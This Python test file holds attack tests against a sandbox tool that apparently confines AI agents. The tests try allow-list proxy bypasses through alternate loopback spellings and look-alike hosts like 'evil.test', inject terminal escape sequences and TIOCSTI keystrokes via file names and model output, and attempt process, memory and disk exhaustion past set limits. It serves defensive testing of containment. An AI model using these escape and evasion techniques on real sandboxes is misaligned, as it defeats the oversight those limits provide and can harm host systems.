"""Attacks on promises 12 to 16, 19 and 20: the proxy, the terminal, limits, the end, refusals, the record."""

import contextlib
import json
import os
import socket
import struct
import threading
from collections.abc import Callable, Iterator

from tests.attack.blind import neighbours  # noqa: F401 its attacks come first
from tests.attack.blind.ground import PRELUDE, PYTHON, Ground, Sealed, on_terminal
from tests.attack.blind.kernel import server
from tests.attack.blind.table import attack


@contextlib.contextmanager
def naive_proxy(allowed: Callable[[str], bool]) -> Iterator[int]:
    """What somebody writes in ten minutes: the name is looked for in the list, and connected to."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    done = threading.Event()

    def serve() -> None:
        while not done.is_set():
            try:
                client, _ = listener.accept()
            except OSError:
                continue
            with client, contextlib.suppress(OSError, IndexError, ValueError, UnicodeError):
                client.settimeout(2)
                name = client.recv(65536).decode("latin-1").split()[1].removeprefix("http://").split("/")[0]
                host, _, port = name.rpartition(":")
                if not allowed(host.lower()):
                    client.send(b"HTTP/1.1 403 no\r\n\r\n")
                    continue
                client.send(b"HTTP/1.1 200 ok\r\n\r\n")
                with socket.create_connection((host.rpartition("@")[2].strip("[]"), int(port)), 2) as there:
                    there.send(b"x")

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        yield listener.getsockname()[1]
    finally:
        done.set()
        thread.join()
        listener.close()


ASK = """
def ask(head):
    s = socket.socket(); s.settimeout(10)
    try:
        s.connect(('127.0.0.1', int(sys.argv[1]))); s.sendall(head); return s.recv(4096)
    except OSError: return b''
    finally: s.close()
"""


@attack(
    12,
    "this machine by every spelling of its address, through the proxy, --net open",
    "a listener of the host hears it",
)
def spelled(g: Ground) -> list[str]:
    unprivileged = 20000 + int(g.mark[4:8], 16) % 20000
    number = 2 + int(g.mark[4:6], 16) % 250
    address, port = (f"127.45.{number}.{int(g.mark[6:8], 16)}", 80) if not os.getuid() else ("127.0.0.1", unprivileged)
    packed = struct.unpack(">I", socket.inet_aton(address))[0]
    a, b, c, d = address.split(".")
    names = [
        address,
        str(packed),
        hex(packed),
        f"{a}.{b}.{int(c) * 256 + int(d)}",
        f"0{int(a):o}.{b}.{c}.{d}",
        f"[::ffff:{address}]",
        address + ".",
    ]
    names += [
        f"[0:0:0:0:0:ffff:{packed >> 16:x}:{packed & 65535:x}]",
        f"example.org@{address}",
        f"{address}.nip.io",
        f"[64:ff9b::{address}]",
        f"[::{address}]",
    ]
    script = (
        ASK
        + """
for name in sys.argv[2:]:
    for head in (f'CONNECT {name} HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n',
        f'GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n',
                 f'GET http://example.org/ HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n'):
        print(name, ask(head.encode())[:40])
"""
    )
    with server(socket.AF_INET, (address, port)) as heard, naive_proxy(lambda _: True) as naive:
        g.run(script, "3128" if g.sealed else str(naive), *[f"{n}:{port}" for n in names], flags=["--net", "open"])
    return [str(h) for h in heard]


@attack(12, "names that only look like the one on the list", "the answer is another than a refusal")
def look_alikes(g: Ground) -> list[str]:
    names = [
        "example.org.evil.test",
        "evilexample.org",
        "example.org%00.evil.test",
        "evil.test#example.org",
        "example.org:80@evil.test",
        "example.org\\.evil.test",
    ]
    names += [
        "www.example.org",
        "example.org..evil.test",
        "xn--example.org-evil.test",
        "example.org;evil.test",
        "-example.org",
        "evil.test?example.org",
        ".example.org",
    ]
    script = (
        ASK
        + """
for name in sys.argv[2:]:
    answer = ask(f'CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n'.encode())
    if answer.split()[1:2] not in ([b'403'], [b'400'], []): hit(name + ' ' + str(answer[:60]))
    answer = ask(f'GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n'.encode())
    if answer.split()[1:2] not in ([b'403'], [b'400'], []): hit(name + ' ' + str(answer[:60]))
"""
    )
    with naive_proxy(lambda name: "example.org" in name) as naive:
        return g.run(script, "3128" if g.sealed else str(naive), *names, flags=["--net", "example.org"]).hits


@attack(
    12, "requests too odd to be recorded, and ways beside the proxy", "one that was sent is not on record, or got out"
)
def unrecorded(g: Ground) -> list[str]:
    port = 20000 + int(g.mark[4:8], 16) % 20000
    heads = [
        "CONNECT evil1.test:443 HTTP/1.1\\r\\n\\r\\n",
        "GET http://evil2.test/ HTTP/9.9\\r\\n\\r\\n",
        "BREW evil3.test\\r\\n\\r\\n",
        "\\x00\\xff\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: evil5.test\\r\\n\\r\\n",
    ]
    heads += ["X" * 70 + "\\r\\n\\r\\n", "CONNECT \\x1b[31mevil6.test:443 HTTP/1.1\\r\\n\\r\\n"]
    client = ASK + f"\nfor head in {heads!r}:\n    ask(head.encode().decode('unicode_escape').encode('latin-1'))\n"
    client += f"""
for family, address in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::ffff:127.0.0.1')):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect((address, {port})); hit('beside')
    except OSError: pass
"""
    (g.work / "client.py").write_text(PRELUDE + client)
    g.own()
    with server(socket.AF_INET, ("0.0.0.0", port)) as heard:
        if isinstance(g, Sealed):
            g.bot("/usr/bin/python3 client.py 3128", flags=["--net", "example.org"])
        else:
            g.plain(PYTHON, "client.py", "9")
    if not isinstance(g, Sealed):
        return [str(h) for h in heard]
    shown = g.cli("runs", "show", "last", "--json").out
    found = sum(e.get("count", 1) for e in events(shown) if "network_requested" in json.dumps(e))
    return [str(h) for h in heard] + ([] if found >= len(heads) else [f"{found} of {len(heads)} on record"])


def events(text: str) -> list[dict[str, int]]:
    found = []
    for line in text.splitlines():
        with contextlib.suppress(ValueError):
            value = json.loads(line)
            found += value if isinstance(value, list) else [value]
    if not found:
        value = json.loads(text)
        found = value if isinstance(value, list) else value.get("events", [])
    return found


EVIL = [
    b"\x1b]0;evil\x07",
    b"\x1b]52;c;ZXZpbA==\x07",
    b"\x1b[6n",
    b"\x1bP$q\x1b\\",
    b"\x9b6n",
    b"\xc2\x9b31m",
    b"\xe2\x80\xae",
    b"\x08\x08",
    b"\x1b[2J",
    b"\xe2\x81\xa6",
    b"\x7f",
    b"\x05",
]


def shown(seen: bytes) -> list[str]:
    text = seen.decode(errors="surrogateescape")  # so that half of another character is not taken for one
    return [repr(e) for e in EVIL if e.decode(errors="surrogateescape") in text]


@attack(
    13,
    "twelve control sequences in what a command prints, in a run and in sandbox exec",
    "one arrives at the terminal as it is",
)
def printed(g: Ground) -> list[str]:
    text = b"".join(b"A" + e + b"B\n" for e in EVIL)
    (g.work / "show").write_bytes(text)
    g.own()
    if not isinstance(g, Sealed):
        return shown(on_terminal(g, ["cat", "show"])[0])
    run = g.bot_command(g.script(["cat show", "cat show >&2"]), "overlay", ["--discard"])
    got = ["run: " + s for s in shown(on_terminal(g, run)[0])]
    execute = [*g.stockade(), "sandbox", "exec", "--folder", str(g.work), "--", "cat", "show"]
    return got + ["sandbox exec: " + s for s in shown(on_terminal(g, execute)[0])]


@attack(
    13,
    "the same in names of files, links and what the model says, at every look afterwards",
    "one arrives at the terminal as it is",
)
def named(g: Ground) -> list[str]:
    g.own()
    make = (
        f"import os\nfor n, e in enumerate({EVIL!r}):\n open(b'n%d' % n + e, 'wb').write(b'x' + e + b'y')\n"
        " os.symlink(b'n' + e, b'l%d' % n + e)\n"
    )
    (g.work / "make.py").write_text(make)
    if not isinstance(g, Sealed):
        g.plain(PYTHON, "make.py")
        return shown(on_terminal(g, ["sh", "-c", "for n in *; do printf '%s\\n' \"$n\"; done"])[0])
    word = "".join(e.decode("utf-8", "replace") for e in EVIL)
    calls = [
        ("shell", {"command": "python3 make.py"}),
        ("nothing" + word, {"x": word}),
        ("shell", {"command": "ls " + word}),
        ("finish", {"answer": word}),
    ]
    lines = [
        json.dumps({"content": word, "tool_calls": [{"function": {"name": n, "arguments": json.dumps(a)}}]})
        for n, a in calls
    ]
    got = []
    run = g.bot_command(g.model(*lines), "overlay", [])
    run[run.index("do it")] = "do " + word.replace("\0", "")
    for command in (
        run,
        *(
            [*g.stockade(), *c]
            for c in (["diff"], ["runs", "list"], ["runs", "show", "last", "--full"], ["apply", "--flagged"], ["undo"])
        ),
    ):
        got += [f"{command[3]}: {s}" for s in shown(on_terminal(g, command)[0])]
    return got


@attack(
    13,
    "the terminal's settings and its input: tcsetattr, TIOCSTI, /dev/tty",
    "settings change, or a terminal is open inside",
)
def terminal(g: Ground) -> list[str]:
    script = """
import termios, array
for path in (0, 1, 2, '/dev/tty', '/proc/self/fd/0', '/proc/self/fd/1'):
    try:
        fd = path if isinstance(path, int) else os.open(path, os.O_RDWR | os.O_NOCTTY)
        t = termios.tcgetattr(fd); t[3] &= ~termios.ECHO; termios.tcsetattr(fd, termios.TCSANOW, t)
        hit('terminal ' + str(path))
        for c in b'evil\\n': fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))
    except (OSError, termios.error): pass
"""
    command = g.command(PRELUDE + script, [], [], "overlay")
    seen, before, after = on_terminal(g, command, b"typed\n")
    assert b"began" in seen, seen
    return [line[4:] for line in seen.decode(errors="replace").splitlines() if line.startswith("HIT ")] + (
        ["settings"] if before != after else []
    )


@attack(14, "processes and threads together, --processes 40", "300 at once")
def many(g: Ground) -> list[str]:
    script = """
n = 0; threading.stack_size(65536)
for i in range(30):
    try: pid = os.fork()
    except OSError: break
    n += 1
    if not pid:
        for _ in range(10):
            try: threading.Thread(target=time.sleep, args=(8,), daemon=True).start()
            except RuntimeError: break
        time.sleep(8); os._exit(0)
time.sleep(2)
total = 0
for p in glob.glob('/proc/[0-9]*/status'):
    try: text = open(p).read()
    except OSError: continue
    if int(re.search(r'PPid:\\s+(\\d+)', text)[1]) == os.getpid(): \
        total += int(re.search(r'Threads:\\s+(\\d+)', text)[1])
if total > 60: hit(total)
os.killpg(0, 9) if sys.argv[1] else None
"""
    return g.run(script, "", flags=["--processes", "40"]).hits


@attack(
    14,
    "memory that is not in the address space: memfds, pipes, /dev/shm, sockets, --memory 256M",
    "700 MB are held at once",
)
def hidden_memory(g: Ground) -> list[str]:
    script = """
held = 0; keep = []; block = b'x' * (1 << 20)
for i in range(14):
    fd = os.memfd_create('m'); keep.append(fd)
    for _ in range(50):
        try: held += os.write(fd, block)
        except OSError: break
print('memfds', held, flush=True)
if held >= 650 << 20: hit(f'{held >> 20} MB in memfds')
"""
    return g.run(script, flags=["--memory", "256M"]).hits


@attack(
    14,
    "places beside the folder that can be written, and how large they and their files may be",
    "more than 4 GB, or a million files, or one file of 1 TB",
)
def places(g: Ground) -> list[str]:
    script = """
seen = set()
for line in open('/proc/self/mountinfo'):
    at = line.split()[4]
    if at.startswith('/workspace') or not os.path.isdir(at) or not os.access(at, os.W_OK): continue
    s = os.statvfs(at); name = at + '/big'
    if s.f_bavail * s.f_bsize > 4 << 30: hit(f'{at} bytes')
    if s.f_favail > 1000000: hit(f'{at} files')
    try:
        with open(name, 'w') as f: os.ftruncate(f.fileno(), 1 << 40); hit(f'{at} 1 TB')
    except OSError: pass
    attempt(os.unlink, name)
name = '/tmp/blind-big-' + sys.argv[1]
s = os.statvfs('/tmp')
if s.f_bavail * s.f_bsize > 4 << 30: hit('/tmp bytes')
try:
    with open(name, 'w') as f: os.ftruncate(f.fileno(), 1 << 40); hit('/tmp 1 TB')
except OSError: pass
attempt(os.unlink, name)
"""
    return g.run(script, g.mark).hits


def flood(g: Ground, body: str, mode: str) -> list[str]:
    """60 times 2 MB, slowly, with --disk 20M: whoever gets to the end was not stopped."""
    script = (
        body
        + "\nfor i in range(60):\n    try: step(i)\n    except OSError as e: print(e, flush=True); break\n"
        + "    time.sleep(0.12)\nelse: hit('120 MB')\n"
    )
    return [f"{mode}: {h}" for h in g.run(script, flags=["--disk", "20M"], mode=mode).hits]


@attack(
    15,
    "files without a name, a descriptor or a length: mapped and unlinked, allocated beyond the end, --disk 20M",
    "120 MB are held",
)
def nameless(g: Ground) -> list[str]:
    g.own()
    body = """
keep = []
def step(i):
    fd = os.open(f'x{i}', os.O_RDWR | os.O_CREAT)
    if i % 2:
        os.ftruncate(fd, 2 << 20); m = mmap.mmap(fd, 2 << 20); m[:] = b'x' * (2 << 20); m.flush(); keep.append(m)
        os.unlink(f'x{i}')
    elif libc.fallocate(fd, 1, ctypes.c_long(0), ctypes.c_long(2 << 20)): raise OSError(ctypes.get_errno(), 'fallocate')
    os.close(fd)
"""
    return [h for mode in ("overlay", "rw") for h in flood(g, body, mode)]


@contextlib.contextmanager
def freed_meanwhile(g: Ground) -> Iterator[None]:
    """The host frees as much as is written: what a file system has lost says nothing then."""
    ballast = [g.base / f"ballast{number}" for number in range(60)]
    for file in ballast:
        file.write_bytes(os.urandom(3 << 20))
    os.sync()
    done = threading.Event()

    def free() -> None:
        for file in ballast:
            if not done.wait(0.1):
                file.unlink()

    thread = threading.Thread(target=free)
    thread.start()
    try:
        yield
    finally:
        done.set()
        thread.join()
        for file in ballast:
            file.unlink(missing_ok=True)


@attack(
    15,
    "files in folders of mode 000, opened only for the moment of writing, while the host frees room, --disk 20M",
    "120 MB are held",
)
def shut(g: Ground) -> list[str]:
    g.own()
    body = """
os.makedirs('d/e')
def step(i):
    os.chmod('d', 0o700)
    with open(f'd/e/x{i}', 'wb') as f: f.write(b'x' * (2 << 20))
    os.chmod('d', 0)
"""
    got = []
    for mode in ("overlay", "rw"):
        with freed_meanwhile(g):
            got += flood(g, body, mode)
        if (g.work / "d").exists():
            (g.work / "d").chmod(0o700)
            (g.work / "d").rename(g.base / f"d-{mode}")
    return got


@attack(15, "files without bytes: empty ones, links, folders, by the ten thousand, --disk 20M", "60,000 are made")
def empty(g: Ground) -> list[str]:
    g.own()
    script = """
n = 0
try:
    for i in range(30):
        os.mkdir(f'd{i}'); fd = os.open(f'd{i}', os.O_RDONLY)
        os.close(os.open('a', os.O_CREAT | os.O_WRONLY, dir_fd=fd))
        for j in range(1000):
            os.symlink('x', f's{j}', dir_fd=fd); os.close(os.open(f'f{j}', os.O_CREAT | os.O_WRONLY, dir_fd=fd))
            n += 2
        os.close(fd); time.sleep(0.01)
except OSError as e: print(n, e, flush=True)
if n >= 60000: hit(n)
"""
    return g.run(script, flags=["--disk", "20M"]).hits
